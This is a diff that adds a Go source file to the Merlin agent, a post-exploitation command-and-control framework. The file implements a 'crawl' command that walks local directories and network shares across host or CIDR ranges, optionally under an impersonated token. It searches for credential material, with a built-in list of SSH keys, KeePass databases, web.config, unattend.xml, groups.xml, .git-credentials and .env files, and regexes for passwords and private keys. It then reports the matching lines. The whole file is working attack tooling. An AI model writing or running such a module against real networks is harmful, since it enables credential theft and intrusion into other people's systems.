@@ -0,0 +1,250 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bufio"
+	"bytes"
+	"fmt"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+const (
+	// crawlMaxResults is the most candidate files a crawl reports
+	crawlMaxResults = 1000
+	// crawlContextLength is the most characters of a matching line a crawl reports
+	crawlContextLength = 120
+)
+
+// crawlPatterns are the file name and content patterns a crawl uses when none are provided
+var crawlPatterns = []string{
+	"*passw*", "*credential*", "*secret*", "*.kdbx", "*.kdb", "*.ppk", "*.pfx", "*.p12", "*.pem", "*.key",
+	"id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "web.config", "unattend.xml", "sysprep.inf", "groups.xml",
+	"*.rdp", "*.vnc", ".git-credentials", ".pgpass", "wp-config.php", ".env",
+	`content:(password|passwd|pwd)\s*[=:]\s*\S+`, `content:connectionString`, `content:-----BEGIN [A-Z ]*PRIVATE KEY-----`,
+}
+
+// crawlConfig holds what a crawl looks for and the limits it honors
+type crawlConfig struct {
+	names    []string
+	contents []*regexp.Regexp
+	depth    int
+	maxSize  int64
+	interval time.Duration
+}
+
+// Crawl walks accessible shares and directories for candidate files whose name or contents match a pattern, such as
+// passwords.xlsx, web.config, or id_rsa, and reports them without downloading them. Roots are a comma separated list
+// or an @file with one per line. On Windows a host or CIDR range as a root is crawled through its readable disk shares.
+// A pattern is a case-insensitive file name glob, or a regular expression searched for in files up to the maximum size
+// when it is prefixed with content:. The crawl defaults to a depth of 5, 1024KB files, 50 files per second, and a
+// built-in list of patterns. A rate of 0 is unlimited
+// crawl <roots|@file> [depth] [max KB] [files per second] [pattern...]
+func Crawl(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Crawl() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "the crawl command requires at least one root to crawl"
+		return
+	}
+	config := crawlConfig{depth: 5, maxSize: 1024 * 1024, interval: time.Second / 50}
+	limits := []string{"depth", "maximum size", "rate"}
+	for i, arg := range cmd.Args[1:min(len(cmd.Args), 4)] {
+		n, err := strconv.Atoi(arg)
+		if err != nil || n < 0 {
+			results.Stderr = fmt.Sprintf("%s is not a valid %s", arg, limits[i])
+			return
+		}
+		switch i {
+		case 0:
+			config.depth = n
+		case 1:
+			config.maxSize = int64(n) * 1024
+		case 2:
+			config.interval = 0
+			if n > 0 {
+				config.interval = time.Second / time.Duration(n)
+			}
+		}
+	}
+	patterns := crawlPatterns
+	if len(cmd.Args) > 4 {
+		patterns = cmd.Args[4:]
+	}
+	for _, pattern := range patterns {
+		if strings.HasPrefix(pattern, "content:") {
+			expr := strings.TrimPrefix(pattern, "content:")
+			re, err := regexp.Compile("(?i)" + expr)
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error compiling the content pattern %s: %s", expr, err)
+				return
+			}
+			config.contents = append(config.contents, re)
+			continue
+		}
+		if _, err := filepath.Match(pattern, ""); err != nil {
+			results.Stderr = fmt.Sprintf("%s is not a valid file name pattern: %s", pattern, err)
+			return
+		}
+		config.names = append(config.names, strings.ToLower(pattern))
+	}
+
+	roots, notes, err := crawlRoots(cmd.Args[0])
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	results.Stdout = notes
+
+	// Setup OS environment, if any, so an impersonated token is used to crawl
+	err = Setup()
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	defer TearDown()
+
+	var records []CrawlRecord
+	var visited int
+	for _, root := range roots {
+		n, e := crawl(root, config, &records)
+		visited += n
+		if e != nil {
+			results.Stderr += e.Error() + "\n"
+		}
+	}
+
+	for _, r := range records {
+		results.Stdout += fmt.Sprintf("%s (%d bytes, modified %s) matched %s\n", r.Path, r.Size, r.Modified.Format(time.RFC3339), r.Match)
+		if r.Context != "" {
+			results.Stdout += fmt.Sprintf("\t%s\n", r.Context)
+		}
+	}
+	results.Stdout += fmt.Sprintf("Found %d candidate files in %d files crawled under %d roots\n", len(records), visited, len(roots))
+	if len(records) >= crawlMaxResults {
+		results.Stdout += fmt.Sprintf("The crawl stopped at the %d result limit\n", crawlMaxResults)
+	}
+	structured = newStructured("crawl", records)
+	return
+}
+
+// crawl walks the root to the configured depth and adds candidate files to records. It returns the number of files
+// it looked at
+func crawl(root string, config crawlConfig, records *[]CrawlRecord) (visited int, err error) {
+	var throttle <-chan time.Time
+	if config.interval > 0 {
+		ticker := time.NewTicker(config.interval)
+		defer ticker.Stop()
+		throttle = ticker.C
+	}
+	root = filepath.Clean(root)
+	err = filepath.WalkDir(root, func(path string, entry fs.DirEntry, err error) error {
+		if len(*records) >= crawlMaxResults {
+			return fs.SkipDir
+		}
+		if err != nil {
+			// Directories that can't be read are skipped rather than ending the crawl
+			if entry != nil && entry.IsDir() && path != root {
+				return fs.SkipDir
+			}
+			return nil
+		}
+		if entry.IsDir() {
+			if path != root && strings.Count(strings.TrimPrefix(path, root), string(filepath.Separator)) > config.depth {
+				return fs.SkipDir
+			}
+			return nil
+		}
+		if !entry.Type().IsRegular() {
+			return nil
+		}
+		if throttle != nil {
+			<-throttle
+		}
+		visited++
+		info, err := entry.Info()
+		if err != nil {
+			return nil
+		}
+		record := CrawlRecord{Path: path, Size: info.Size(), Modified: info.ModTime()}
+		name := strings.ToLower(entry.Name())
+		for _, pattern := range config.names {
+			if matched, _ := filepath.Match(pattern, name); matched {
+				record.Match = "name " + pattern
+				break
+			}
+		}
+		if record.Match == "" && len(config.contents) > 0 && info.Size() <= config.maxSize {
+			record.Match, record.Context = crawlContents(path, config.contents)
+		}
+		if record.Match != "" {
+			*records = append(*records, record)
+		}
+		return nil
+	})
+	if err != nil {
+		err = fmt.Errorf("there was an error crawling %s: %s", root, err)
+	}
+	return
+}
+
+// crawlContents searches a text file for the content patterns and returns the first pattern that matched and the
+// line it matched on. Binary files are not searched
+func crawlContents(path string, patterns []*regexp.Regexp) (match, context string) {
+	f, err := os.Open(path) // #nosec G304 the crawl opens any file it can read
+	if err != nil {
+		return
+	}
+	defer f.Close()
+	reader := bufio.NewReader(f)
+	head, _ := reader.Peek(512)
+	if bytes.IndexByte(head, 0) >= 0 {
+		return
+	}
+	for {
+		line, err := reader.ReadString('\n')
+		for _, re := range patterns {
+			if loc := re.FindStringIndex(line); loc != nil {
+				// Center the context on the match so long lines, such as minified files, still show it
+				start := loc[0] - crawlContextLength/4
+				if start < 0 {
+					start = 0
+				}
+				end := min(len(line), start+crawlContextLength)
+				return "content " + re.String()[4:], strings.TrimSpace(line[start:end])
+			}
+		}
+		if err != nil {
+			return
+		}
+	}
+}